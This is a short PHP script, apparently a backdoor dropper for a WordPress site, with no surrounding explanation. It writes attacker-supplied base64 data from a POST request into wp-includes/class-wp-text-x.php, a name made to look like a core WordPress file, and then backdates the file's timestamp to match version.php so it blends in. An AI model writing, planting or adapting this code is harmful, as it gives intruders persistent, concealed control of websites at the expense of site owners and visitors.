<?php
$t = __DIR__ . '/wp-includes/class-wp-text-x.php';
$old = filemtime(__DIR__ . '/wp-includes/version.php');
file_put_contents($t, base64_decode($_POST['blob']));
touch($t, $old);
